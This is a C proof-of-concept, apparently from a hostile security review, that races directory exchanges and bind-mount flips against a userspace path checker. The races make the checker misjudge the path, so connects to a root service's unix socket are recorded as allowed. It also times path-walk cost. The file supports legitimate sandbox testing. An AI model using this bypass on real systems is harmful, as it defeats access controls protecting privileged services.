/* ha62-agent: hostile review h-attack62's agent (see ha62-host.sh).
 *   ha62-agent DIR MODE [CONNECTS]
 * DIR is a host directory holding a root service's socket s.sock (read-only
 * in the run: unix-peer is due for any name that reaches it).
 *
 * MODE xchg: no mount, no namespace. walk_as_kernel holds a descriptor of
 * each directory it has stepped into and looks the next component up in
 * it later; the kernel's own walk does the same, but in microseconds (and
 * its RCU walk restarts when a directory it stands in moved). Two
 * directories A and B under /dev/shm/ha62, each with d/ and links
 * l0 .. l(K-1) of ~2,000 components ("d/../d/../...", each naming the
 * next, the last ending at the directory itself), one named q and holding
 * x -> /proc/self/fd/F (F: DIR, O_PATH), the other named r without x. A
 * thread flips: x into r's, renameat2(q, r, RENAME_EXCHANGE), x out of
 * r's, wait. At every instant q/x exists, so the kernel's lookup of
 *   /dev/shm/ha62/q/l0/x/s.sock
 * reaches the service. Ours (openat2, RESOLVE_NO_MAGICLINKS) fails in
 * /proc; the walk steps into q (A) and, tens of milliseconds of links
 * later, looks x up in A, which by then may be r and have lost x: ENOENT,
 * the same errno as the first lookup's, TRUST: answered ENOENT, recorded
 * allowed, where unix-peer is due. No mount changes, so neither the mount
 * watch nor root_overmounted is asked anything that differs.
 * MODE xchgstatic: the same tree, no flipping (control: the walk reaches
 *   /proc, denied).
 * MODE xmnt: finding 1 with mounts only, which no inotify watch reports:
 * the agent (a user+mount namespace of its own, A, chrooted to
 * /dev/shm/ha62x, R) has R/q/s and R/t/s, each with d/ and the links (one
 * level down: a ".." whose parent is q would step into T when T is
 * mounted, the kernel's and the walk's alike), R/q/s/x an empty directory
 * with the agent's /proc bound on it, R/t/s/x -> /p (the agent's /proc
 * bound on R/p). A child left in A flips with mounts alone:
 * bind T over q, take /proc off the hidden q/s/x, wait, put a fresh /proc
 * on the hidden q/s/x (move_mount of an open_tree clone onto a descriptor of
 * it), unmount T, wait. At every instant q/s/x leads to /proc. The
 * connecting process moves to a copy B and puts its root back on A's R
 * (h-attack59's xflip), so the mount watch sees nothing; no ".." at a
 * mount root or the root is walked. The walk steps into the bare q/s and,
 * after the links, looks x up in it when T covers q and x is bare: "self"
 * is missing there, ENOENT, TRUST. Connects name /q/s/l0/x/self/fd/F/s.sock.
 * MODE costroot: 40 links of ~4 kB of "/.." (a ".." at the root: every one
 *   asks root_overmounted), the last a missing name, timed.
 * MODE costmnt: the same with "/dev/shm/../.." (/dev/shm and /dev mount
 *   roots: a statx, an openat2 and two statx at each "..").
 * CONNECTS (default 50). HA62_LINKS: K (default 8); HA62_PHASE_US: each
 * phase (default 15000). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define W "/dev/shm/ha62"

static volatile int stop;
static int phase_us = 15000;
static char xtarget[64];

static int once(const char *name, int quiet)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0), rc, err;

	snprintf(a.sun_path, sizeof(a.sun_path), "%s", name);
	rc = connect(fd, (struct sockaddr *)&a, sizeof(a));
	err = errno;
	if (rc == 0 && write(fd, "ha62-secret\n", 12) != 12)
		rc = -1;
	if (!quiet)
		fprintf(stderr, "ha62 connect: %s\n", rc == 0 ? "connected" : strerrorname_np(err));
	close(fd);
	return rc == 0 ? 0 : err;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void sleep_us(int us)
{
	struct timespec ts = {.tv_sec = us / 1000000, .tv_nsec = (long)(us % 1000000) * 1000};

	nanosleep(&ts, NULL);
}

/* BASE/DIR/d and BASE/DIR/l0 .. l(k-1). */
static int links_at(const char *base, const char *dir, int k)
{
	char t[4096], l[128], next[16];
	int n;

	snprintf(l, sizeof(l), "%s/%s", base, dir);
	mkdir(l, 0755);
	snprintf(l, sizeof(l), "%s/%s/d", base, dir);
	mkdir(l, 0755);
	for (int i = 0; i < k; i++) {
		snprintf(l, sizeof(l), "%s/%s/l%d", base, dir, i);
		n = 0;
		while (n + 5 + 16 < 4000)
			n += snprintf(t + n, sizeof(t) - (size_t)n, "d/../");
		if (i < k - 1)
			snprintf(next, sizeof(next), "l%d", i + 1);
		else
			strcpy(next, "d/..");
		snprintf(t + n, sizeof(t) - (size_t)n, "%s", next);
		if (symlink(t, l) != 0)
			return -1;
	}
	return 0;
}

static int links_in(const char *dir, int k)
{
	return links_at(W, dir, k);
}

static void *flipper(void *arg)
{
	(void)arg;
	while (!stop) {
		sleep_us(phase_us);
		if (symlink(xtarget, W "/r/x") != 0)
			perror("ha62 symlink");
		if (renameat2(AT_FDCWD, W "/q", AT_FDCWD, W "/r", RENAME_EXCHANGE) != 0) {
			perror("ha62 renameat2");
			break;
		}
		unlink(W "/r/x");
	}
	return NULL;
}

#define X "/dev/shm/ha62x"

static void put_file(const char *path, const char *v)
{
	int fd = open(path, O_WRONLY);

	if (fd < 0 || write(fd, v, strlen(v)) < 0)
		fprintf(stderr, "ha62 %s: %s\n", path, strerror(errno));
	if (fd >= 0)
		close(fd);
}

/* The flipper of xmnt, chrooted in R, namespace A; xfd: the bare q/x. */
static void mnt_flipper(int xfd)
{
	char p[64];

	for (;;) {
		int pt =
		    (int)syscall(SYS_open_tree, AT_FDCWD, "/p", OPEN_TREE_CLONE | AT_RECURSIVE);

		if (pt < 0 || syscall(SYS_move_mount, pt, "", xfd, "",
				      MOVE_MOUNT_F_EMPTY_PATH | MOVE_MOUNT_T_EMPTY_PATH) != 0) {
			perror("ha62 proc on x");
			_exit(1);
		}
		if (umount2("/q", MNT_DETACH) != 0 && errno != EINVAL)
			perror("ha62 umount q");
		sleep_us(phase_us);
		if (mount("/t", "/q", NULL, MS_BIND, NULL) != 0) {
			perror("ha62 mount t");
			_exit(1);
		}
		snprintf(p, sizeof(p), "/p/self/fd/%d", pt);
		if (umount2(p, MNT_DETACH) != 0)
			perror("ha62 umount proc");
		close(pt);
		sleep_us(phase_us);
	}
}

static int xmnt(const char *dir, int n)
{
	char map[64], gmap[64], name[108];
	int f = open(dir, O_PATH | O_DIRECTORY), rootfd, xfd, counts[3] = {0};
	pid_t child;

	if (system("rm -rf " X) != 0 || mkdir(X, 0755) != 0 || f < 0)
		return 2;
	mkdir(X "/p", 0755);
	mkdir(X "/q", 0755);
	mkdir(X "/t", 0755);
	if (links_at(X, "q/s", 8) != 0 || links_at(X, "t/s", 8) != 0 ||
	    mkdir(X "/q/s/x", 0755) != 0 || symlink("/p", X "/t/s/x") != 0)
		return 2;
	snprintf(map, sizeof(map), "0 %d 1", (int)getuid());
	snprintf(gmap, sizeof(gmap), "0 %d 1", (int)getgid());
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
		return 2;
	put_file("/proc/self/setgroups", "deny");
	put_file("/proc/self/uid_map", map);
	put_file("/proc/self/gid_map", gmap);
	if (mount("/proc", X "/p", NULL, MS_BIND | MS_REC, NULL) != 0 || chroot(X) != 0 ||
	    chdir("/") != 0) {
		perror("ha62 bind/chroot");
		return 2;
	}
	xfd = open("/q/s/x", O_PATH | O_DIRECTORY);
	rootfd = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (xfd < 0 || rootfd < 0)
		return 2;
	child = fork();
	if (child == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		mnt_flipper(xfd);
		_exit(0);
	}
	close(xfd);
	if (unshare(CLONE_NEWNS) != 0 || fchdir(rootfd) != 0 || chroot(".") != 0 ||
	    chdir("/") != 0) {
		perror("ha62 xns");
		return 2;
	}
	sleep_us(2 * phase_us);
	{
		/* What this process sees of the flips: q covered (x a link)
		 * or bare (x a directory). */
		int t = 0, b = 0;
		struct stat st;

		for (int i = 0; i < 200; i++, sleep_us(phase_us / 10))
			if (lstat("/q/s/x", &st) == 0)
				S_ISLNK(st.st_mode) ? t++ : b++;
		fprintf(stderr, "ha62 xmnt seen: q covered %d, bare %d\n", t, b);
	}
	snprintf(name, sizeof(name), "/q/s/l0/x/self/fd/%d/s.sock", f);
	for (int i = 0; i < n; i++) {
		int e = once(name, 1);

		counts[e == 0 ? 0 : e == ENOENT ? 1 : 2]++;
	}
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	fprintf(stderr, "ha62 xmnt: %d connects: connected %d, ENOENT %d, other %d\n", n, counts[0],
		counts[1], counts[2]);
	return counts[0] == n ? 0 : 1;
}

/* 40 links of ~4 kB of UNIT from the root, the last naming "missing". */
static int cost(const char *unit)
{
	char t[4096], l[64];
	double t0, t1;
	int n;

	mkdir(W "/c", 0755);
	for (int i = 0; i < 40; i++) {
		snprintf(l, sizeof(l), W "/c/l%d", i);
		n = 0;
		while (n + (int)strlen(unit) + 32 < 4000)
			n += snprintf(t + n, sizeof(t) - (size_t)n, "%s", unit);
		if (i < 39)
			snprintf(t + n, sizeof(t) - (size_t)n, "/dev/shm/ha62/c/l%d", i + 1);
		else
			snprintf(t + n, sizeof(t) - (size_t)n, "/dev/shm/ha62/c/missing");
		unlink(l);
		if (symlink(t, l) != 0) {
			perror("ha62 symlink");
			return 2;
		}
	}
	t0 = now();
	once(W "/c/l0", 0);
	t1 = now();
	fprintf(stderr, "ha62 cost connect: %.4f s\n", t1 - t0);
	return 0;
}

int main(int argc, char **argv)
{
	const char *mode;
	char name[108];
	int f, k = 8, n = 50, ok = 0, counts[4] = {0};
	pthread_t th;

	if (argc < 3)
		return 2;
	mode = argv[2];
	if (argc > 3)
		n = atoi(argv[3]);
	if (getenv("HA62_LINKS"))
		k = atoi(getenv("HA62_LINKS"));
	if (getenv("HA62_PHASE_US"))
		phase_us = atoi(getenv("HA62_PHASE_US"));
	if (system("rm -rf " W) != 0)
		return 2;
	mkdir(W, 0755);
	if (strcmp(mode, "costroot") == 0)
		return cost("/..");
	if (strcmp(mode, "xmnt") == 0)
		return xmnt(argv[1], n);
	if (strcmp(mode, "costmnt") == 0)
		return cost("/dev/shm/../..");
	f = open(argv[1], O_PATH | O_DIRECTORY);
	if (f < 0 || links_in("q", k) != 0 || links_in("r", k) != 0) {
		perror("ha62 setup");
		return 2;
	}
	snprintf(xtarget, sizeof(xtarget), "/proc/self/fd/%d", f);
	if (symlink(xtarget, W "/q/x") != 0) {
		perror("ha62 x");
		return 2;
	}
	snprintf(name, sizeof(name), W "/q/l0/x/s.sock");
	if (strcmp(mode, "xchg") == 0)
		pthread_create(&th, NULL, flipper, NULL);
	else if (strcmp(mode, "xchgstatic") != 0)
		return 2;
	for (int i = 0; i < n; i++) {
		int e = once(name, 1);

		if (e == 0)
			counts[0]++, ok++;
		else if (e == ENOENT)
			counts[1]++;
		else if (e == ECONNREFUSED || e == EACCES || e == EPERM)
			counts[2]++;
		else
			counts[3]++;
	}
	if (strcmp(mode, "xchg") == 0) {
		stop = 1;
		pthread_join(th, NULL);
	}
	fprintf(stderr, "ha62 %s: %d connects: connected %d, ENOENT %d, refused %d, other %d\n",
		mode, n, counts[0], counts[1], counts[2], counts[3]);
	return ok == n ? 0 : 1;
}
